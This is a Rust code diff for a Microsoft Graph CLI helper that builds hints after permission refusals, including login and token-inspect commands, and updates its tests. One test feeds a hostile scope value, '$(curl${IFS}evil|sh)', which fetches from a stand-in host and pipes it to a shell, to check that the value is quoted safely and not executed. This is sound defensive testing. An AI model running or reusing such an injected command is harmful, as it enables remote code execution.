@@ -2,11 +2,11 @@
 
 use openidconnect::http::Method;
 
-use crate::access::login_command;
+use crate::access::{login_command, with_scope_flags};
 use crate::auth::ScopeSet;
 use crate::graph::permissions::needed;
 use crate::graph::{OWN_PROPERTIES, Request, ServiceError};
-use crate::output::shell_word;
+use crate::hint::{Hint, hint};
 
 /// Who was refused.
 pub(super) struct Refused<'a> {
@@ -22,7 +22,7 @@ pub(super) struct Refused<'a> {
 
 impl Refused<'_> {
     /// What to do about a `request` that was answered with `status`; nothing where no more is known than everybody is told.
-    pub(super) fn hints(&self, request: &Request, status: u16) -> Vec<String> {
+    pub(super) fn hints(&self, request: &Request, status: u16) -> Vec<Hint> {
         let path = request.url.path();
         let path = ["/v1.0", "/beta"].iter().find_map(|version| path.strip_prefix(version)).unwrap_or(path);
         match status {
@@ -32,38 +32,41 @@ impl Refused<'_> {
         }
     }
 
-    fn denied(&self, method: &Method, path: &str) -> Vec<String> {
+    fn denied(&self, method: &Method, path: &str) -> Vec<Hint> {
         let Some(needed) = needed(method.as_str(), path) else { return Vec::new() };
         let (kind, permissions) = if self.is_application { ("Application", needed.application) } else { ("Delegated", needed.delegated) };
         let Some(least) = permissions.first() else {
-            let (whom, login) = if self.is_application { ("persons", "cids login") } else { ("applications", "cids login --app-only") };
-            return vec![format!("{method} {path} is for {whom} alone: `{login}`")];
+            let (whom, login): (_, Hint) =
+                if self.is_application { ("persons", "cids login".into()) } else { ("applications", "cids login --app-only".into()) };
+            return vec![hint!("{} {} is for {} alone: `{}`", method, path, whom, login)];
         };
         let mut hints = if permissions.iter().any(|permission| self.has(permission)) {
-            vec![format!("The token has {least}, so that it is the account that may not do this")]
+            vec![hint!("The token has {}, so that it is the account that may not do this", least)]
         } else {
             let then = match ScopeSet::parse(least) {
                 Ok(scopes) if !self.is_application => {
-                    let login = format!("Then run `{}`", login_command(&scopes));
+                    let login = hint!("Then run `{}`", login_command(&scopes));
                     // Without the flag the same call would take the same token again.
-                    if self.asked.contains(least) { login } else { format!("{login}, and repeat the call with --scope {least}") }
+                    if self.asked.contains(least) { login } else { hint!("{}, and repeat the call with --scope {}", login, least) }
                 }
-                _ => "Then run `cids login --app-only`".to_owned(),
+                _ => "Then run `cids login --app-only`".into(),
             };
             vec![
-                format!("{method} {path} needs the {} permission {} at least", kind.to_lowercase(), permissions.join(" or ")),
-                format!(
+                hint!("{} {} needs the {} permission {} at least", method, path, kind.to_lowercase(), Hint::joined(&permissions, " or ")),
+                hint!(
                     "In an external tenant an administrator must consent to it: App registration > API permissions > Add a permission > \
-                     Microsoft Graph > {kind} permissions > {least}, then Grant admin consent"
+                     Microsoft Graph > {} permissions > {}, then Grant admin consent",
+                    kind,
+                    least
                 ),
                 then,
             ]
         };
         let own = path.trim_matches('/').eq_ignore_ascii_case("me");
         if own && *method == Method::PATCH && !self.is_application {
-            hints.push(format!("Customers may change of themselves only {}", OWN_PROPERTIES.join(", ")));
+            hints.push(hint!("Customers may change of themselves only {}", Hint::joined(OWN_PROPERTIES, ", ")));
         } else if !own && !self.is_application {
-            hints.push("Customers may read and change only themselves, under /me, whatever was consented to".to_owned());
+            hints.push("Customers may read and change only themselves, under /me, whatever was consented to".into());
         }
         hints
     }
@@ -72,34 +75,33 @@ impl Refused<'_> {
         ScopeSet::parse(&self.scopes.join(" ")).is_ok_and(|granted| granted.contains(permission))
     }
 
-    fn no_such_name(&self, name: &str) -> Vec<String> {
+    fn no_such_name(&self, name: &str) -> Vec<Hint> {
         let issuer = self.authority.as_deref().and_then(tenant_domain).unwrap_or_else(|| "TENANT.onmicrosoft.com".to_owned());
         vec![
-            "A customer's user principal name is {object-id}@TENANT.onmicrosoft.com, and the address they sign in with lies in `identities`"
-                .to_owned(),
-            format!(
-                "Look there: cids graph get users --filter \"identities/any(c:c/issuerAssignedId eq '{name}' and c/issuer eq '{issuer}')\""
+            "A customer's user principal name is {object-id}@TENANT.onmicrosoft.com, and the address they sign in with lies in `identities`".into(),
+            hint!(
+                "Look there: cids graph get users --filter {}",
+                format!("identities/any(c:c/issuerAssignedId eq '{name}' and c/issuer eq '{issuer}')")
             ),
         ]
     }
 }
 
 /// What to do about the `refusal` of the application's own API, which was called with a token for `asked`.
-pub(super) fn of_own_api(refusal: &ServiceError, asked: &ScopeSet) -> Vec<String> {
-    let inspect =
-        asked.of_apis().iter().fold("cids token inspect".to_owned(), |command, scope| format!("{command} --scope {}", shell_word(scope)));
+pub(super) fn of_own_api(refusal: &ServiceError, asked: &ScopeSet) -> Vec<Hint> {
+    let inspect = with_scope_flags("cids token inspect", asked);
     let wanted = refusal.challenge.as_ref().and_then(|challenge| challenge.scope.as_deref());
     match (refusal.status, wanted.and_then(|wanted| ScopeSet::parse(&full_names(wanted, asked)).ok())) {
         (401 | 403, Some(wanted)) => vec![
-            format!("The API asks for {wanted}: run `{}`, and give --scope with it", login_command(&wanted)),
-            format!("`{inspect}` shows what the token has"),
+            hint!("The API asks for {}: run `{}`, and give --scope with it", Hint::joined(wanted.iter(), " "), login_command(&wanted)),
+            hint!("`{}` shows what the token has", inspect),
         ],
         (401, None) => vec![
-            format!("Look whether the token is the API's (aud), still good, and has what it asks for (scp, roles): `{inspect}`"),
-            format!("If it should be good, sign in anew: `{}`", login_command(asked)),
+            hint!("Look whether the token is the API's (aud), still good, and has what it asks for (scp, roles): `{}`", inspect),
+            hint!("If it should be good, sign in anew: `{}`", login_command(asked)),
         ],
         (403, None) => {
-            vec![format!("The API asks for a scope (scp) or a role (roles) that the token lacks: `{inspect}` shows what it has")]
+            vec![hint!("The API asks for a scope (scp) or a role (roles) that the token lacks: `{}` shows what it has", inspect)]
         }
         _ => Vec::new(),
     }
@@ -150,9 +152,13 @@ mod tests {
         Refused { is_application: false, asked: ScopeSet::parse("User.Read").unwrap(), scopes: &[], authority: None }
     }
 
+    fn told(hints: &[Hint]) -> String {
+        hints.iter().map(Hint::as_str).collect::<Vec<_>>().join("\n")
+    }
+
     fn hints(refused: &Refused<'_>, method: Method, path: &str, status: u16) -> String {
         let request = Request::new(method, Url::parse(&format!("https://graph.microsoft.com/v1.0/{path}")).unwrap());
-        refused.hints(&request, status).join("\n")
+        told(&refused.hints(&request, status))
     }
 
     #[test]
@@ -215,7 +221,7 @@ mod tests {
     fn what_an_own_api_asks_for_cannot_become_a_command() {
         let challenge = Challenge { scope: Some("$(curl${IFS}evil|sh)".to_owned()), ..Challenge::default() };
         let refusal = ServiceError { status: 401, challenge: Some(challenge), ..ServiceError::default() };
-        let told = of_own_api(&refusal, &ScopeSet::parse("api://x/Read").unwrap()).join("\n");
+        let told = told(&of_own_api(&refusal, &ScopeSet::parse("api://x/Read").unwrap()));
         assert!(told.contains("cids login --scope 'api://x/$(curl${IFS}evil|sh)'"), "{told}");
     }
 
